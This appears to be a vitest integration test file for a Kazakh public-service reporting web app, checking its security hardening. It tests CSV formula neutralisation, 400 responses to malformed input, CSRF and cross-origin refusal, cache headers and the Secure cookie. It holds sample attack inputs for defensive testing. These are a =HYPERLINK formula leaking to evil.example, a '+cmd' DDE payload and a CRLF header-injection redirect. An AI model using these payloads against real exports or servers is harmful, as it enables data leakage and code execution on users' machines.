// The small holes of issue 18 against a real server (server.ts over build/, embedded database,
// demo data and users), each as the probe found it: CSV cells planted with a formula (through an
// import, through the User-Agent of a failed sign-in) come out neutralised while numbers stay
// numbers; a `%00` (or another malformed value) in a parameter is a 400 — a page in the user's
// language, JSON for the API — never a 500; a body-less POST /logout and cross-origin POSTs are
// refused with 403, not a 500; signed-in pages are `Cache-Control: private, no-store`; the
// session cookie is Secure behind a proxy that TRUST_PROXY trusts, and only then; a target is
// proposed only for a year the workflow opens.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { proposalYears } from '../../app/domain/target-years'
import { todayInKazakhstan } from '../../app/domain/reporting-period'
import { startAppServer, type AppServer } from '../support/app-server'
import { Cookies, csrfOf, request, signInHttp } from '../support/sign-in'

const FARM = 'private-farm-certificate'
/** The Kokshetau PSC (Akmola, KZ-11): it serves the farm certificate in the demo data. */
const OFFICE = 'KZ-11-PSC-kokshetau-city'
/** A formula with quotes and a comma, as an attacker would plant it. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","open")'
/** …and as every CSV must write it: apostrophe first, then RFC 4180 quoting. */
const HYPERLINK_CELL = `"'=HYPERLINK(""http://evil.example/?leak"",""open"")"`

/** The cells of a CSV line (RFC 4180: quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = []
  let i = 0
  while (i <= line.length) {
    if (line[i] === '"') {
      let j = i + 1
      let text = ''
      for (;;) {
        if (line[j] === '"' && line[j + 1] === '"') {
          text += '"'
          j += 2
        } else if (line[j] === '"') break
        else text += line[j++]
      }
      out.push(text)
      i = j + 2
    } else {
      const end = line.indexOf(',', i)
      out.push(line.slice(i, end === -1 ? line.length : end))
      i = end === -1 ? line.length + 1 : end + 1
    }
  }
  return out
}

/**
 * What the reader sees of an error: the error page's section (the dictionaries also travel in the
 * page's scripts, so the whole HTML would hold every message), or a download's plain text.
 */
async function errorText(response: Response): Promise<string> {
  const body = await response.text()
  if (!/text\/html/.test(response.headers.get('content-type') ?? '')) return body
  const section = /<section class="error-page"[\s\S]*?<\/section>/.exec(body)
  expect(section, 'an error page').not.toBeNull()
  return section![0].replace(/<[^>]+>/g, ' ')
}

/** A CSV download's lines (without the BOM), each split into its cells. */
async function csvRows(response: Response): Promise<string[][]> {
  expect(response.status).toBe(200)
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
  const text = (await response.text()).replace(/^\uFEFF/, '')
  return text
    .split('\r\n')
    .filter((l) => l !== '')
    .map(cells)
}

const NUMBER = /^-?\d+(\.\d+)?$/

/**
 * No text cell of a CSV may start a formula unless neutralised by the leading apostrophe; a
 * number (a negative change such as -2.68 included) is written bare.
 */
function expectNoFormula(rows: string[][]) {
  for (const row of rows) {
    for (const cell of row) if (!NUMBER.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  }
}

describe('HTTP hardening (issue 18, points 6 and 8)', () => {
  let server: AppServer
  let admin: Cookies
  let akmola: Cookies
  const url = (path: string) => `${server.url}${path}`

  beforeAll(async () => {
    server = await startAppServer()
    admin = (await signInHttp(server.url, 'admin@demo.kz')).cookies
    akmola = (await signInHttp(server.url, 'akmola@demo.kz')).cookies
  }, 180_000)

  afterAll(async () => {
    await server?.stop()
  })

  describe('CSV formula injection', () => {
    beforeAll(async () => {
      // One late farm certificate at the Kokshetau PSC whose case id is a formula, imported by
      // the administrator through the API (session cookie + the session's CSRF header).
      // Submitted Monday 3 March 2025, 10:00; issued a week later: far past its 2-day term.
      const token = csrfOf(await (await request(url('/account'), admin)).text())
      const file =
        'external_id,standard,variant,channel,office,submitted_at,completed_at,result\r\n' +
        `"${HYPERLINK.replace(/"/g, '""')}",${FARM},standard,public_service_center,${OFFICE},` +
        '2025-03-03 10:00,2025-03-10 15:00,issued\r\n'
      const response = await fetch(url('/api/v1/import/cases?source=demo&file_name=probe.csv'), {
        method: 'POST',
        body: file,
        headers: { 'Content-Type': 'text/csv', Cookie: admin.header(), 'X-CSRF-Token': token },
      })
      const body = await response.text()
      expect(response.status, body).toBe(200)
      expect(JSON.parse(body)).toMatchObject({
        preview: { rows_new: 1, error_count: 0 },
        committed: { rows_inserted: 1 },
      })
    })

    for (const [what, path] of [
      [
        'the drill-down cases export',
        `/indicators/${FARM}/1.1/export?table=cases&format=csv&year=2025&region=KZ-11&office=${OFFICE}`,
      ],
      [
        'the office late-case export',
        `/offices/${OFFICE}/export?table=late&format=csv&year=2025&standard=${FARM}`,
      ],
      [
        'the region late-case export',
        `/regions/KZ-11/export?table=late&format=csv&year=2025&standard=${FARM}`,
      ],
    ] as const) {
      it(`a =HYPERLINK(…) case id planted through an import comes out neutralised in ${what}`, async () => {
        const response = await request(url(path), admin)
        const raw = await response.clone().text()
        // The cell as written: apostrophe inside the quotes, never `"=HYPERLINK(` or `=HYPERLINK(`.
        expect(raw).toContain(HYPERLINK_CELL)
        expect(raw).not.toMatch(/(^|,)"?=HYPERLINK/m)
        const rows = await csvRows(response)
        const planted = rows.find((r) => r[0] === `'${HYPERLINK}`)
        expect(planted, 'the planted case is listed').toBeDefined()
        expectNoFormula(rows)
        // Numbers stay numbers: every cell of the planted row that is a number in the table is
        // written bare (its office code and dates are text and start with a letter or digit).
        const header = rows[0]!
        const numeric = planted!.filter((cell, i) => i > 0 && NUMBER.test(cell))
        expect(numeric.length, header.join('|')).toBeGreaterThan(0)
        expect(planted!.some((cell) => /^'-?\d/.test(cell))).toBe(false)
      })
    }

    it('the region indicators export keeps its numbers bare, a negative change included', async () => {
      const rows = await csvRows(
        await request(
          url(
            `/regions/KZ-11/export?table=indicators&format=csv&year=2025&standard=${FARM}&lang=en`,
          ),
          admin,
        ),
      )
      expectNoFormula(rows)
      // Δ: the change against the previous year in percentage points, a number by type. The
      // seeded demo data has declines in Akmola's farm certificate: written -2.68, never '-2.68.
      const change = rows[0]!.indexOf('Change from 2024, percentage points')
      expect(change).toBeGreaterThan(0)
      const changes = rows.slice(1).map((r) => r[change]!)
      expect(changes.every((v) => v === '' || NUMBER.test(v))).toBe(true)
      expect(changes.some((v) => v.startsWith('-'))).toBe(true)
      expect(rows.flat().some((c) => /^'-?\d/.test(c))).toBe(false)
    })

    it('a =HYPERLINK(…) User-Agent of a failed sign-in comes out neutralised in /admin/audit/export', async () => {
      const agents = [HYPERLINK, '+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)']
      for (const agent of agents) {
        const jar = new Cookies()
        const headers = { 'User-Agent': agent }
        const page = await request(url('/login'), jar, { headers })
        const failed = await request(url('/login'), jar, {
          headers,
          form: {
            _csrf: csrfOf(await page.text()),
            email: 'nobody-formula@demo.kz',
            password: 'wrong',
            redirectTo: '/',
          },
        })
        expect(failed.status).toBe(400)
      }
      const response = await request(
        url('/admin/audit/export?export=csv&action=auth.sign_in_failed'),
        admin,
      )
      const raw = await response.clone().text()
      expect(raw).toContain(HYPERLINK_CELL)
      const rows = await csvRows(response)
      const ua = rows[0]!.length - 1
      const written = rows.slice(1).map((r) => r[ua])
      for (const agent of agents) expect(written).toContain(`'${agent}`)
      expectNoFormula(rows)
      // The id column is a number: written bare.
      expect(rows.slice(1).every((r) => /^\d+$/.test(r[0]!))).toBe(true)
    })
  })

  describe('malformed parameters are a 400, never a 500', () => {
    const PAGES = [
      `/regions/KZ-11?year=2025&standard=%00`,
      `/regions/KZ-11?year=2025&office=%00`,
      `/indicators/${FARM}/1.1?year=2025&region=KZ-11&district=x%00`,
      `/indicators/${FARM}/1.1?year=2025&office=%00`,
      `/?standard=%00`,
      `/admin/audit?q=%00`,
      `/admin/audit?action=%00`,
      `/admin/audit?entity=%00`,
      `/admin/audit?q=%01abc`,
      `/admin/audit?from=2025-02-30`,
      `/admin/audit/export?export=csv&q=%00`,
      `/targets?standard=%00`,
    ]
    for (const path of PAGES) {
      it(`GET ${path} → 400, a page naming the parameter in the user's language`, async () => {
        for (const [lang, hint] of [
          ['kk', 'параметрінің мәні дұрыс емес'],
          ['ru', 'Недопустимое значение параметра'],
          ['en', 'is not valid'],
        ] as const) {
          const response = await request(url(`${path}&lang=${lang}`), admin)
          expect(response.status, lang).toBe(400)
          expect(await errorText(response)).toContain(hint)
        }
      })
    }

    it('a page and a download say what is wrong with a %00: a control character (kk, ru, en)', async () => {
      for (const [lang, text] of [
        ['kk', 'басқару таңбасы'],
        ['ru', 'управляющий символ'],
        ['en', 'control character'],
      ] as const) {
        for (const path of ['/admin/audit?q=%00', '/admin/audit/export?export=csv&q=%00']) {
          const response = await request(url(`${path}&lang=${lang}`), admin)
          expect(response.status).toBe(400)
          expect(await errorText(response)).toContain(text)
        }
      }
    })

    const API = [
      ['/api/v1/indicators?year=2025&standard=%00', 'standard'],
      ['/api/v1/indicators?year=2025&office=%00', 'office'],
      ['/api/v1/indicators?year=2025&region=KZ-11&district=x%00', 'district'],
      ['/api/v1/indicators?year=2025&as_of=2025-02-30', 'as_of'],
      ['/api/v1/offices?region=KZ-11&year=%00', 'year'],
      ['/api/v1/regions?year=abc', 'year'],
      ['/api/v1/imports?limit=-1', 'limit'],
    ] as const
    for (const [path, parameter] of API) {
      it(`GET ${path} → 400 JSON naming "${parameter}"`, async () => {
        const response = await request(url(path), admin)
        expect(response.status).toBe(400)
        expect(response.headers.get('content-type')).toMatch(/application\/json/)
        expect(await response.json()).toMatchObject({ error: 'bad_request', parameter })
      })
    }

    it('a form field with %00 is a 400 naming it, not a 500: the sign-in e-mail, a target comment', async () => {
      const jar = new Cookies()
      const page = await request(url('/login?lang=en'), jar)
      const login = await request(url('/login?lang=en'), jar, {
        form: { _csrf: csrfOf(await page.text()), email: 'a\u0000b@demo.kz', password: 'demo' },
      })
      expect(login.status).toBe(400)
      // An action's error page is the root's, in the language of the root's last render (kk here).
      const said = await errorText(login)
      expect(said).toMatch(/[«“]email[»”]/)
      expect(said).toMatch(/control character|басқару таңбасы|управляющий символ/)

      const targets = await request(url(`/targets?standard=${FARM}&lang=en`), akmola)
      const html = await targets.text()
      const proposal = await request(url(`/targets?index&standard=${FARM}&lang=en`), akmola, {
        form: {
          _csrf: csrfOf(html),
          intent: 'propose',
          indicatorId: /name="indicatorId" value="(\d+)"/.exec(html)![1]!,
          year: String(proposalYears(todayInKazakhstan(new Date())).last),
          region: 'KZ-11',
          value: '95',
          comment: 'a\u0000b',
        },
      })
      expect(proposal.status).toBe(400)
      expect(await errorText(proposal)).toMatch(/[«“]comment[»”]/)
    })

    it('a redirectTo with %00, a CR LF or a Kazakh letter never breaks the Location header', async () => {
      const signedIn = await request(url('/login?redirectTo=%2F%00'), admin)
      expect(signedIn.status).toBe(302)
      expect(signedIn.headers.get('location')).toBe('/')
      const crlf = await request(url('/login?redirectTo=%2F%0d%0aX-Evil:1'), admin)
      expect(crlf.status).toBe(302)
      expect(crlf.headers.get('location')).toBe('/')
      expect(crlf.headers.get('x-evil')).toBeNull()
      const kazakh = await request(url('/login?redirectTo=%2Fstandards%3Fq%3D%D3%99'), admin)
      expect(kazakh.status).toBe(302)
      expect(kazakh.headers.get('location')).toBe('/standards?q=%D3%99')
    })
  })

  describe('sign-out and cross-origin posts', () => {
    it('POST /logout without a body: 403 for a session (no CSRF token), which stays signed in', async () => {
      const { cookies } = await signInHttp(server.url, 'ministry@demo.kz')
      const response = await fetch(url('/logout'), {
        method: 'POST',
        redirect: 'manual',
        headers: { Cookie: cookies.header() },
      })
      expect(response.status).toBe(403)
      expect(response.headers.getSetCookie().join()).not.toMatch(/sapa_session=;/)
      expect((await request(url('/'), cookies)).status).toBe(200)
    })

    it('POST /imports and POST /imports/upload without a body: 403 (no CSRF token), never a 500', async () => {
      const { cookies } = await signInHttp(server.url, 'admin@demo.kz')
      for (const path of ['/imports', '/imports/upload']) {
        const response = await fetch(url(path), {
          method: 'POST',
          redirect: 'manual',
          headers: { Cookie: cookies.header() },
        })
        expect(response.status, path).toBe(403)
      }
    })

    it('POST /logout without a body and without a session goes to /login', async () => {
      const response = await fetch(url('/logout'), { method: 'POST', redirect: 'manual' })
      expect(response.status).toBe(302)
      expect(response.headers.get('location')).toBe('/login')
    })

    it('the sign-out form with its token still signs out (same-origin Origin header)', async () => {
      const { cookies } = await signInHttp(server.url, 'ministry@demo.kz')
      const token = csrfOf(await (await request(url('/account'), cookies)).text())
      const response = await request(url('/logout'), cookies, {
        form: { _csrf: token },
        headers: { Origin: server.url },
      })
      expect(response.status).toBe(302)
      expect(response.headers.get('location')).toBe('/login')
      expect((await request(url('/'), cookies)).status).toBe(302)
    })

    const ACTIONS = [
      '/login',
      '/logout',
      '/account',
      '/targets?index',
      '/admin/users',
      '/admin/reference',
      '/imports',
      '/imports/upload',
      '/reports/2025',
      '/api/v1/import/cases?source=demo',
      '/api/v1/imports/1/undo',
      '/regions/KZ-11',
      '/targets.data',
    ]
    for (const path of ACTIONS) {
      it(`a cross-origin POST ${path} → 403, not 500`, async () => {
        for (const origin of ['https://evil.example', 'null']) {
          const response = await request(url(path), admin, {
            form: { _csrf: 'x', intent: 'propose' },
            headers: { Origin: origin },
          })
          expect(response.status, origin).toBe(403)
          if (path.startsWith('/api/')) {
            expect(await response.json()).toMatchObject({ error: 'forbidden' })
          }
        }
      })
    }
  })

  describe('caching', () => {
    for (const path of [
      '/?lang=en',
      '/regions/KZ-11?year=2025',
      `/indicators/${FARM}/1.1?year=2025`,
      '/targets',
      '/admin/audit',
      '/account',
    ]) {
      it(`the signed-in page ${path} is Cache-Control: private, no-store (a kept page too)`, async () => {
        // Twice: a dashboard is rendered the first time and may be answered from memory the
        // second (decision 0013) — both carry the header.
        for (let i = 0; i < 2; i++) {
          const response = await request(url(path), admin)
          expect(response.status).toBe(200)
          expect(response.headers.get('content-type')).toMatch(/text\/html/)
          expect(response.headers.get('cache-control'), `request ${i + 1}`).toBe(
            'private, no-store',
          )
          await response.arrayBuffer()
        }
      })
    }

    it('a kept page is answered from memory with the header', async () => {
      await request(url('/regions/KZ-11?year=2025&standard=land-lease-act'), admin)
      const kept = await request(url('/regions/KZ-11?year=2025&standard=land-lease-act'), admin)
      expect(kept.headers.get('x-sapa-page')).toBe('kept')
      expect(kept.headers.get('cache-control')).toBe('private, no-store')
    })

    it("a client-side navigation's data (*.data) is private, no-store too", async () => {
      const response = await request(url('/regions/KZ-11.data?year=2025'), admin)
      expect(response.status).toBe(200)
      expect(response.headers.get('cache-control')).toBe('private, no-store')
    })
  })

  describe('target years', () => {
    const today = todayInKazakhstan(new Date())
    const open = proposalYears(today)

    for (const year of ['2001', '9999', String(open.first - 1), String(open.last + 1)]) {
      it(`a regional user proposing for ${year} gets a field error (400), not a 500, and nothing is stored`, async () => {
        const page = await request(url(`/targets?standard=${FARM}&lang=en`), akmola)
        const html = await page.text()
        const indicatorId = /name="indicatorId" value="(\d+)"/.exec(html)![1]!
        const response = await request(url(`/targets?index&standard=${FARM}&lang=en`), akmola, {
          form: {
            _csrf: csrfOf(html),
            intent: 'propose',
            indicatorId,
            year,
            region: 'KZ-11',
            value: '95',
          },
        })
        expect(response.status).toBe(400)
        // Shown by the form that was sent (the texts also travel in the page's data).
        const alert = /<p class="form-error" role="alert">([^<]*)<\/p>/.exec(await response.text())
        expect(alert?.[1]).toMatch(/^Targets are proposed only for this year and the next/)
        // Nothing was proposed: the page lists no pending value (this server has none at all).
        const after = await request(url(`/targets?standard=${FARM}&lang=en`), akmola)
        expect(await after.text()).not.toContain('data-target-status="proposed"')
      })
    }
  })
})

describe('TRUST_PROXY', () => {
  const signInOver = async (server: AppServer, proto: string | null) => {
    const jar = new Cookies()
    const headers: Record<string, string> = proto ? { 'X-Forwarded-Proto': proto } : {}
    const page = await request(`${server.url}/login`, jar, { headers })
    const response = await request(`${server.url}/login`, jar, {
      headers,
      form: {
        _csrf: csrfOf(await page.text()),
        email: 'ministry@demo.kz',
        password: 'demo',
        redirectTo: '/',
      },
    })
    expect(response.status).toBe(302)
    return response.headers.getSetCookie().find((c) => c.startsWith('sapa_session='))!
  }

  it('with TRUST_PROXY=loopback the session cookie is Secure behind X-Forwarded-Proto: https, not over plain http', async () => {
    const server = await startAppServer({ demoScale: 0.01, env: { TRUST_PROXY: 'loopback' } })
    try {
      expect(await signInOver(server, 'https')).toMatch(/; Secure/)
      expect(await signInOver(server, null)).not.toMatch(/Secure/)
      expect(await signInOver(server, 'http')).not.toMatch(/Secure/)
    } finally {
      await server.stop()
    }
  }, 180_000)

  it('without TRUST_PROXY a client claiming X-Forwarded-Proto: https gets no Secure cookie', async () => {
    const server = await startAppServer({ demoScale: 0.01 })
    try {
      expect(await signInOver(server, 'https')).not.toMatch(/Secure/)
    } finally {
      await server.stop()
    }
  }, 180_000)
})
